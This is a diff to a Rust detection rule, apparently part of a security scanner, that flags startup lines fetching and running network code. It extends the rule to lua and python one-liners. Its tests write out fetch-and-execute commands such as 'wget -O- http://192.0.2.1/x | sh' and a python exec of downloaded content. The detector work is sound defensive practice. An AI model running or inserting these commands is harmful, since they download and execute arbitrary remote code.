@@ -1,7 +1,7 @@
 //! A startup line that fetches a program from the network and runs it.
 //!
 //! # Sees
-//! wget, curl, tftp, ftpget, nc and the like whose output goes to a shell (a pipe, `sh -c "$(…)"`, `eval`,
+//! wget, curl, tftp, ftpget, nc and the like, also in a text for lua, perl or python, whose output goes to a shell (a pipe, `sh -c "$(…)"`, `eval`,
 //! `. <(…)`), or whose file is run by the same or a later line of the same startup file, also after `mv` or `cp`.
 //!
 //! # Why it matters
@@ -20,7 +20,7 @@
 //! ATT&CK T1105.
 
 use crate::check::{Area, Check, Ctx, Hook, Out, Severity, Source};
-use crate::facts::fetch::{Product, fetch};
+use crate::facts::fetch::{Product, fetch, is_fetching_code};
 use crate::facts::memory::Origin;
 use crate::facts::runs::takes_text;
 use crate::facts::startup::{Kind, Line};
@@ -38,7 +38,9 @@ pub const CHECK: Check = Check {
 
 fn run(line: &Line<'_>, _: &Ctx<'_>, out: &mut Out<'_>) {
     let fetches = |index: u16| fetch(line.commands, index) == Some(Product::Output);
-    let fetched = line.commands.iter().any(|(index, _)| takes_text(line.commands, index, &fetches));
+    let fetched = line.commands.iter().any(|(index, _)| {
+        takes_text(line.commands, index, &fetches) || is_fetching_code(line.commands, index)
+    });
     let draft = if fetched && line.kind == Kind::Text {
         out.line(line).severity(Severity::Suspicious).say("in quotes or a text that is printed: ")
     } else if fetched {
@@ -84,6 +86,8 @@ mod tests {
             b"echo 'wget -O- http://192.0.2.1/x | sh' | sh",
             b"eval 'wget -O- http://192.0.2.1/x \\\n| sh'",
             br"$'\x77get' -O- http://192.0.2.1/x | sh",
+            b"lua -e \"os.execute('wget -qO- http://192.0.2.1/x | sh')\"",
+            b"python3 -c \"exec(urllib.request.urlopen('http://192.0.2.1/x').read())\"",
             b"wget http://192.0.2.1/x -O ${T:-/tmp/x}; sh /tmp/x",
         ] {
             assert_eq!(
@@ -130,6 +134,8 @@ mod tests {
             b"echo $(curl http://192.0.2.1/ip)",
             b"eval $(wget -qO- http://192.0.2.1/x | jsonfilter -e 'A=@.a')",
             b"wget http://192.0.2.1/x; sh /usr/bin/y",
+            b"python3 -c \"import urllib.request;print(urllib.request.urlopen('http://192.0.2.1/x').read())\"",
+            b"lua -e \"os.execute('wget -qO /tmp/x http://192.0.2.1/x')\"",
         ] {
             assert_eq!(startup(&CHECK, Kind::Shell, text), [], "{}", String::from_utf8_lossy(text));
         }
